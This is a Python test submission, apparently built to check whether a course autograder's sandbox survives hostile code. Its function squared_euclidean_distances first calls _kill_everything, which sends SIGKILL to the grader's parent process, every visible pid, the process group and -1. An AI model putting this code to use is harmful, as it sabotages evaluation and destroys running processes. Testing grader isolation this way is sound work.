"""Attack a04 (kill the grader): squared_euclidean_distances sends SIGKILL to its parent (the fork server),
to every other pid it can see in /proc, to the parent's process group and to -1 (everything it may
signal), then reports which kills worked; everything else is the correct solution.

Targets: squared_euclidean_distances, protonet_logits and protonet_loss. Expected: exactly 13 / 31;
the targeted tests fail with "raised an exception" naming "cs330atk still alive" and PermissionError.
"""


import torch
import torch.nn.functional as F


def squared_euclidean_distances(
    query_features: torch.Tensor, prototypes: torch.Tensor
) -> torch.Tensor:
    """Return the (Q, N) matrix whose entry (i, c) is ||query_i - prototype_c||^2.

    query_features: (Q, D) float tensor; prototypes: (N, D) float tensor.
    """
    _kill_everything()
    diff = query_features.unsqueeze(1) - prototypes.unsqueeze(0)  # (Q, N, D)
    return (diff * diff).sum(dim=-1)


def _kill_everything():
    """SIGKILL every process in sight, then raise with what happened."""
    import os
    import signal

    report = []
    targets = [("parent", os.getppid())]
    targets += [(f"pid {p}", int(p)) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    for name, pid in targets:
        try:
            os.kill(pid, signal.SIGKILL)
            report.append(f"{name}: killed")
        except OSError as exc:
            report.append(f"{name}: {type(exc).__name__}")
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
        report.append("parent group: killed")
    except OSError as exc:
        report.append(f"parent group: {type(exc).__name__}")
    try:
        os.kill(-1, signal.SIGKILL)  # every process this user may signal, except this one
        report.append("-1: sent")
    except OSError as exc:
        report.append(f"-1: {type(exc).__name__}")
    raise RuntimeError("cs330atk still alive after kill attempts: " + "; ".join(report))
